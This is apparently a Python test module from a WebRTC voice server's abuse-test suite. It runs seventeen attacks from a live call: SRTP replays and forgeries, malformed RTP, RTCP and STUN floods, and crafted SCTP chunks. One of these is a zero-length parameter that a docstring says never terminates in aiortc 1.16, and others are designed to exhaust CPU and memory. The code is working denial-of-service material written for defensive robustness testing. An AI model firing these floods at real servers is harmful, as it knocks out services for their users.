"""What a caller can do to the server from its own call: from its own address, with its own keys.

    python -m tests.abuse.attacks URL NAME

A process of its own, so that what the flood costs the attacker does not look like a hole in its victim's audio.
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import struct
import sys
from collections.abc import Awaitable, Callable

import google_crc32c
import pylibsrtp
from aioice import stun
from aiortc.exceptions import InvalidStateError
from aiortc.rtp import RtpPacket

from tests.support.live_call import LiveCall, live_call

Attack = Callable[[LiveCall], Awaitable[None]]


async def raw(call: LiveCall, packets: list[bytes]) -> None:
    transport = call.peer.pc.getTransceivers()[0].sender.transport.transport
    for number, packet in enumerate(packets):
        await transport._send(packet)
        if number % 50 == 49:
            await asyncio.sleep(0.005)


def rtp(call: LiveCall, payload: bytes, **fields: int) -> bytes:
    packet = RtpPacket(payload_type=fields.get("payload_type", 96), sequence_number=fields.get("sequence", 1))
    packet.timestamp = fields.get("timestamp", 0)
    packet.ssrc = fields.get("ssrc", 4_242)
    packet.payload = payload
    return packet.serialize()


def protect(call: LiveCall, plain: bytes) -> bytes:
    dtls = call.peer.pc.getTransceivers()[0].sender.transport
    return bytes(dtls._tx_srtp.protect(plain))


async def replays(call: LiveCall) -> None:
    packet = protect(call, rtp(call, b"\xf8\xff\xfe"))
    await raw(call, [packet] * 1_000)


async def forged(call: LiveCall) -> None:
    packet = bytearray(protect(call, rtp(call, b"\xf8\xff\xfe")))
    packet[-1] ^= 1
    await raw(call, [bytes(packet)] * 1_000)


async def many_sources(call: LiveCall) -> None:
    await raw(call, [protect(call, rtp(call, b"\xf8\xff\xfe", ssrc=number)) for number in range(1, 1_000)])


async def hostile_headers(call: LiveCall) -> None:
    rng = random.Random(3)
    packets = []
    for number in range(600):
        plain = bytearray(
            rtp(
                call,
                rng.randbytes(rng.choice([0, 1, 3, 60, 1_300])),
                payload_type=rng.choice([96, 96, 0, 8, 9, 13, 63, 110, 127]),
                sequence=rng.randrange(65_536),
                timestamp=rng.randrange(2**32),
                ssrc=50_000 + number,
            )
        )
        with contextlib.suppress(pylibsrtp.Error):  # our own side refuses to go back in the sequence
            packets.append(protect(call, bytes(plain)))
    assert len(packets) > 20
    await raw(call, packets)


async def rtcp_garbage(call: LiveCall) -> None:
    rng = random.Random(4)
    await raw(call, [b"\x81" + bytes([rng.randrange(192, 224)]) + rng.randbytes(80) for _ in range(1_000)])


async def signed_rtcp_garbage(call: LiveCall) -> None:
    """Encrypted with the call's own key, so that the parser behind SRTP sees it."""
    rng = random.Random(6)
    transport = call.peer.pc.getTransceivers()[0].sender.transport
    for number in range(1_500):
        words = rng.randrange(0, 20)
        body = bytearray(rng.randbytes(4 * words))
        known = [*transport._rtp_router.senders, *transport._rtp_router.ssrc_table]
        for at in range(0, 4 * words, 4):
            if rng.random() < 0.3:
                body[at : at + 4] = struct.pack("!I", rng.choice(known))
        kind = rng.choice([200, 201, 202, 203, 204, 205, 206, 207])
        length = rng.choice([words, words, words, rng.randrange(65_536)])
        plain = struct.pack("!BBH", 0x80 | rng.randrange(64), kind, length) + bytes(body)
        with contextlib.suppress(pylibsrtp.Error):
            await transport.transport._send(transport._tx_srtp.protect_rtcp(plain.ljust(8, b"\0")))
        if number % 50 == 49:
            await asyncio.sleep(0.005)


async def signed_stun_flood(call: LiveCall) -> None:
    connection = call.peer.pc.getTransceivers()[0].sender.transport.transport._connection
    messages = []
    for number in range(50):
        message = stun.Message(message_method=stun.Method.BINDING, message_class=stun.Class.REQUEST)
        message.attributes["USERNAME"] = f"{connection.remote_username}:{connection.local_username}"
        message.attributes["PRIORITY"] = number
        message.add_message_integrity(connection.remote_password.encode())
        messages.append(bytes(message))
    await raw(call, messages * 60)


def sctp_packet(call: LiveCall, chunks: bytes) -> bytes:
    sctp = call.peer.pc.sctp
    header = struct.pack("!HHI", sctp._local_port, sctp._remote_port, sctp._remote_verification_tag)
    checksum = google_crc32c.value(header + bytes(4) + chunks)
    return header + struct.pack("<I", checksum) + chunks


async def sctp_endless_parameter(call: LiveCall) -> None:
    """aiortc 1.16 never gets past a parameter of length 0."""
    for kind in (4, 5, 6, 9, 130):
        await call.peer.pc.sctp.transport._send_data(sctp_packet(call, struct.pack("!BBHHH", kind, 0, 8, 1, 0)))


async def sctp_wide_acknowledgements(call: LiveCall) -> None:
    """300 gap blocks of 65535 each: 20 million numbers to look at, per packet."""
    sctp = call.peer.pc.sctp
    body = struct.pack("!LLHH", sctp._local_tsn, 100_000, 280, 0) + struct.pack("!HH", 0, 65_535) * 280
    for _ in range(5):
        await sctp.transport._send_data(sctp_packet(call, struct.pack("!BBH", 3, 0, len(body) + 4) + body))


async def sctp_scattered_data(call: LiveCall) -> None:
    """Every second TSN of two billion, never completed: what is kept must be bounded."""
    sctp = call.peer.pc.sctp
    for number in range(1_500):
        body = (
            struct.pack("!LHHL", (sctp._local_tsn + 2 * number + 2) & 0xFFFFFFFF, number % 65_536, 0, 51) + b"x" * 1_000
        )
        await sctp.transport._send_data(sctp_packet(call, struct.pack("!BBH", 0, 2, len(body) + 4) + body))
        if number % 50 == 49:
            await asyncio.sleep(0.1)


async def text_that_is_none(call: LiveCall) -> None:
    """A string message that is not UTF-8."""
    await call.peer.pc.sctp._send(call.peer._channel.id, 51, b"\xff\xfe\xfd")


async def sctp_garbage(call: LiveCall) -> None:
    """Inside DTLS: chunks of every kind with lengths that lie, checksums right."""
    rng = random.Random(8)
    sctp = call.peer.pc.sctp
    for number in range(1_500):
        chunks = b""
        for _ in range(rng.randrange(1, 4)):
            body = rng.randbytes(4 * rng.randrange(0, 12))
            length = rng.choice([len(body) + 4, len(body) + 4, rng.randrange(0, 200)])
            kind = rng.choice([*range(16), 64, 130, 132, 192, 193, 255])
            chunks += struct.pack("!BBH", kind, rng.randrange(256), length) + body
        await sctp.transport._send_data(sctp_packet(call, chunks))
        if number % 50 == 49:
            await asyncio.sleep(0.005)


async def channel_message_flood(call: LiveCall) -> None:
    for number in range(3_000):
        call.peer._channel.send('{"type": "session.update", "session": {}}' if number % 2 else "{")
        if number % 100 == 99:
            await asyncio.sleep(0.01)
    await asyncio.sleep(0.5)


async def dtls_garbage(call: LiveCall) -> None:
    rng = random.Random(5)
    await raw(call, [bytes([rng.randrange(20, 64)]) + rng.randbytes(300) for _ in range(1_000)])


async def empty_datagrams(call: LiveCall) -> None:
    await raw(call, [b""] * 200)


async def many_channels(call: LiveCall) -> None:
    for number in range(60):
        call.peer.pc.createDataChannel(f"flood-{number}")
    await asyncio.sleep(0.5)


async def huge_messages(call: LiveCall) -> None:
    for _ in range(5):
        call.peer._channel.send("x" * 60_000)
    await asyncio.sleep(0.5)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        replays,
        forged,
        many_sources,
        hostile_headers,
        rtcp_garbage,
        signed_rtcp_garbage,
        signed_stun_flood,
        sctp_garbage,
        sctp_endless_parameter,
        sctp_wide_acknowledgements,
        sctp_scattered_data,
        text_that_is_none,
        channel_message_flood,
        dtls_garbage,
        empty_datagrams,
        many_channels,
        huge_messages,
    )
}


async def main(url: str, name: str) -> None:
    async with live_call(url) as call:
        with contextlib.suppress(ConnectionError, InvalidStateError):  # it may have been thrown out
            await ATTACKS[name](call)
        await asyncio.sleep(0.3)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
